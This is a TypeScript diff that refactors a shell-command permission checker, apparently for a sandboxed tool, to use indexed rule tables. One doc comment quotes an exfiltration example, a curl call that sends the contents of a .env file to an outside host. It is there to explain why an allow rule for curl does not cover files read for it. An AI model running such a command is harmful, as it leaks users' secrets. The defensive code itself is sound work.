@@ -1,7 +1,8 @@
 import { defaultOrigin } from "../../codes/origin.ts";
-import type { CompiledRule, CompiledRules } from "../compile-rules.ts";
+import type { CompiledRule } from "../compile-rules.ts";
 import { steersShell } from "../loader-variables.ts";
 import type { PathWorld } from "../paths.ts";
+import type { RuleTable, RuleTables } from "../rule-table.ts";
 import { type CommandLine, type InnerCommands, PROCESS_FILE, type ShellCommand, UNKNOWN_TEXT } from "./command-line.ts";
 import { mayMean, meansCommand } from "./command-pattern.ts";
 import { coverCommand, reachOf } from "./cover-command.ts";
@@ -14,7 +15,7 @@ import { readCommandOptions } from "./read-options.ts";
 import { takesScript } from "./script-input.ts";
 
 /** Every finding about a command line; the strictest one counts (contract 1). */
-export function judgeShell(line: CommandLine, rules: CompiledRules, world: PathWorld): readonly Finding[] {
+export function judgeShell(line: CommandLine, rules: RuleTables, world: PathWorld): readonly Finding[] {
   const whole = flatten(line.commands, () => true);
   const run = new Set(flatten(line.commands, ({ guessed }) => !guessed));
   const folders = foldersFor(whole, world, line.repeats);
@@ -73,21 +74,27 @@ const FEW_STEPS = 40_000;
 /** The commands that can be matched against every rule within the limit. */
 function affordable(
   commands: readonly ShellCommand[],
-  { deny, ask, allow }: CompiledRules,
+  rules: RuleTables,
   folders: readonly Folders[],
   most: number,
 ): readonly ShellCommand[] {
-  const all = [...deny, ...ask, ...allow];
-  const files = all.filter(({ matcher }) => matcher.kind === "path").length;
-  const patterns = all.filter(({ matcher }) => matcher.kind === "pattern").length;
+  const near = { known: countNear(rules, "known"), any: countNear(rules, "any") };
   let steps = 0;
   const end = commands.findIndex(({ words, redirections }, at) => {
     const texts = [...words, ...redirections.map(({ target }) => target)];
     const size = texts.reduce((sum, { text }) => sum + countNames(text) + text.length / 16, 1);
-    steps += size * (4 + all.length - files + 12 * patterns + (5 + 3 * files) * (folders[at]?.known.length ?? 1));
+    const { files, patterns, others } = near[texts.some(({ hasGlob }) => hasGlob) ? "any" : "known"];
+    steps += size * (4 + others + 12 * patterns + (5 + 3 * files) * (folders[at]?.known.length ?? 1));
     return steps > most;
   });
   return end === -1 ? commands : commands.slice(0, end);
+}
+
+function countNear({ deny, ask, allow }: RuleTables, files: "known" | "any") {
+  const [one, other, third] = [deny, ask, allow].map((table) => table.counts(files));
+  const sum = (kind: "files" | "patterns" | "others"): number =>
+    (one?.[kind] ?? 0) + (other?.[kind] ?? 0) + (third?.[kind] ?? 0);
+  return { files: sum("files"), patterns: sum("patterns"), others: sum("others") };
 }
 
 /** Shell options that change which files a pattern matches. */
@@ -116,13 +123,10 @@ function flatten(
 }
 
 /** The command and everything it runs, each with the number of its words that an allow rule spells out. */
-function spellOut(
-  command: ShellCommand,
-  outer: number,
-  allows: readonly CompiledRule[],
-  found: Map<ShellCommand, number>,
-): void {
-  const own = allows.map((rule) => (rule.family === "shell" ? reachOf(rule, command.words) : null));
+function spellOut(command: ShellCommand, outer: number, allows: RuleTable, found: Map<ShellCommand, number>): void {
+  const own = allows
+    .about({ words: command.words })
+    .map((rule) => (rule.family === "shell" ? reachOf(rule, command.words) : null));
   const reach = own.includes("all") ? Number.POSITIVE_INFINITY : Math.max(outer, ...own.map((one) => Number(one ?? 0)));
   found.set(command, reach);
   for (const { at, commands } of command.inner)
@@ -130,17 +134,17 @@ function spellOut(
 }
 
 /** The sandbox guards what a program reads. If it cannot, only programs known to read nothing else go unasked. */
-function judgeMissed({ allow }: CompiledRules, { confinement }: PathWorld): readonly Finding[] {
+function judgeMissed({ allow }: RuleTables, { confinement }: PathWorld): readonly Finding[] {
   const isReading = ({ matcher }: CompiledRule): boolean =>
     matcher.kind === "command" && matcher.pattern.kind === "reading";
   const missed = confinement?.missed;
-  if (missed === undefined || allow.every((rule) => rule.family !== "shell" || isReading(rule))) return [];
+  if (missed === undefined || !allow.has("shell", (rule) => !isReading(rule))) return [];
   const text = `files that Read rules deny cannot all be hidden from commands: ${missed}`;
   return [asking("", "permission.file-not-covered", text)];
 }
 
 /** If rules name commands, an unreadable one may be any of them, in every mode and under every wrapper. */
-function judgeNames(run: ReadonlySet<ShellCommand>, rules: CompiledRules): readonly Finding[] {
+function judgeNames(run: ReadonlySet<ShellCommand>, rules: RuleTables): readonly Finding[] {
   if (!hasCommandRules(rules)) return [];
   const all = [...run];
   const odd =
@@ -156,17 +160,21 @@ function judgeNames(run: ReadonlySet<ShellCommand>, rules: CompiledRules): reado
 }
 
 /** It may be a sub-command that a rule names, or an alias for one. */
-function hidesNamed({ words }: ShellCommand, { deny, ask }: CompiledRules): boolean {
+function hidesNamed({ words }: ShellCommand, { deny, ask }: RuleTables): boolean {
   const named = words[0]?.text === "git" && words.some(({ text }) => text.startsWith("--config-env"));
   if (!named && !words.some(({ text }) => text === UNKNOWN_TEXT)) return false;
-  return [...deny, ...ask].some(
-    ({ matcher }) =>
-      matcher.kind === "command" &&
-      (mayMean(matcher.pattern, words) ||
-        (named &&
-          "words" in matcher.pattern &&
-          matcher.pattern.words[0] === "git" &&
-          matcher.pattern.words.length > 1)),
+  return [deny, ask].some((table) =>
+    table
+      .about({ words })
+      .some(
+        ({ matcher }) =>
+          matcher.kind === "command" &&
+          (mayMean(matcher.pattern, words) ||
+            (named &&
+              "words" in matcher.pattern &&
+              matcher.pattern.words[0] === "git" &&
+              matcher.pattern.words.length > 1)),
+      ),
   );
 }
 
@@ -179,8 +187,10 @@ function runsUnseen(command: ShellCommand): boolean {
 }
 
 /** If rules name files, a line that changes what shell patterns match hides which files these are. */
-function judgePatterns(run: Iterable<ShellCommand>, { deny, ask }: CompiledRules): readonly Finding[] {
-  if (![...deny, ...ask].some(({ matcher }) => matcher.kind === "path")) return [];
+function judgePatterns(run: Iterable<ShellCommand>, { deny, ask }: RuleTables): readonly Finding[] {
+  const namesFiles = ({ matcher }: CompiledRule): boolean => matcher.kind === "path";
+  if (!(["read", "write"] as const).some((family) => deny.has(family, namesFiles) || ask.has(family, namesFiles)))
+    return [];
   const odd = [...run].find(
     ({ words, assignments }) =>
       words.some(({ text }) => GLOBBING.has(text)) ||
@@ -193,14 +203,15 @@ function judgePatterns(run: Iterable<ShellCommand>, { deny, ask }: CompiledRules
 }
 
 /** Whether a deny or ask rule is about some commands but not all. */
-export function hasCommandRules({ deny, ask }: CompiledRules): boolean {
-  return [...deny, ...ask].some(({ family, matcher }) => family === "shell" && matcher.kind !== "any");
+export function hasCommandRules({ deny, ask }: RuleTables): boolean {
+  const namesSome = ({ matcher }: CompiledRule): boolean => matcher.kind !== "any";
+  return deny.has("shell", namesSome) || ask.has("shell", namesSome);
 }
 
 /** Rules about every command, and patterns over the whole text. */
-function judgeWhole({ text }: CommandLine, rules: CompiledRules): readonly Finding[] {
+function judgeWhole({ text }: CommandLine, rules: RuleTables): readonly Finding[] {
   return (["deny", "ask"] as const).flatMap((decision) =>
-    rules[decision].flatMap((rule) => {
+    rules[decision].about({ words: [] }).flatMap((rule) => {
       if (rule.family !== "shell") return [];
       const { matcher } = rule;
       const hit = matcher.kind === "any" || (matcher.kind === "pattern" && matcher.pattern.matcher(text).find());
@@ -209,7 +220,7 @@ function judgeWhole({ text }: CommandLine, rules: CompiledRules): readonly Findi
   );
 }
 
-function judgeStrictly(command: ShellCommand, rules: CompiledRules): readonly Finding[] {
+function judgeStrictly(command: ShellCommand, rules: RuleTables): readonly Finding[] {
   let words: string | null = null;
   const isMeant = ({ family, matcher }: CompiledRule): boolean => {
     if (family !== "shell" || matcher.kind === "any") return false;
@@ -219,13 +230,13 @@ function judgeStrictly(command: ShellCommand, rules: CompiledRules): readonly Fi
     }
     return matcher.kind === "command" && meansCommand(matcher.pattern, command.words);
   };
-  const denied = rules.deny.find(isMeant);
+  const denied = rules.deny.about({ words: command.words }).find(isMeant);
   if (denied !== undefined) return [byRule(showCommand(command), "deny", denied)];
-  const asked = rules.ask.find(isMeant);
+  const asked = rules.ask.about({ words: command.words }).find(isMeant);
   return asked === undefined ? [] : [byRule(showCommand(command), "ask", asked)];
 }
 
-function judgeCover(command: ShellCommand, allows: readonly CompiledRule[], world: PathWorld): Finding {
+function judgeCover(command: ShellCommand, allows: RuleTable, world: PathWorld): Finding {
   const part = showCommand(command);
   const cover = coverCommand(command, allows, world);
   if (!cover.covered) return asking(part, cover.code, `${JSON.stringify(part)}: ${cover.text}`);
@@ -236,7 +247,7 @@ function judgeCover(command: ShellCommand, allows: readonly CompiledRule[], worl
  * Passes output of other commands, through a pipe or as arguments, to a command that needs more than these rules: a
  * rule for `curl` does not cover files that are read for it, as in `curl "https://h/?x=$(cat .env)"`.
  */
-export function takesFromOthers({ commands }: CommandLine, allows: readonly CompiledRule[], world: PathWorld): boolean {
+export function takesFromOthers({ commands }: CommandLine, allows: RuleTable, world: PathWorld): boolean {
   const isCarried = commands.some((command) => takesInput(command) || (command.captured && !printsOwnText(command)));
   return commands.some(
     (command) => (command.piped || (isCarried && hasUnknown(command))) && !coverCommand(command, allows, world).covered,
@@ -270,11 +281,13 @@ function judgeLoops({ loopVariables }: CommandLine): readonly Finding[] {
 }
 
 /** A rule identical to the whole line covers all of it (contract 5). */
-function findExact({ text }: CommandLine, allows: readonly CompiledRule[]): CompiledRule | undefined {
+function findExact({ text }: CommandLine, allows: RuleTable): CompiledRule | undefined {
   const line = text.trim();
-  return allows.find(
-    ({ matcher }) => matcher.kind === "command" && matcher.pattern.kind === "exact" && matcher.pattern.text === line,
-  );
+  return allows
+    .about({ line })
+    .find(
+      ({ matcher }) => matcher.kind === "command" && matcher.pattern.kind === "exact" && matcher.pattern.text === line,
+    );
 }
 
 function hasPlainName({ words }: ShellCommand): boolean {
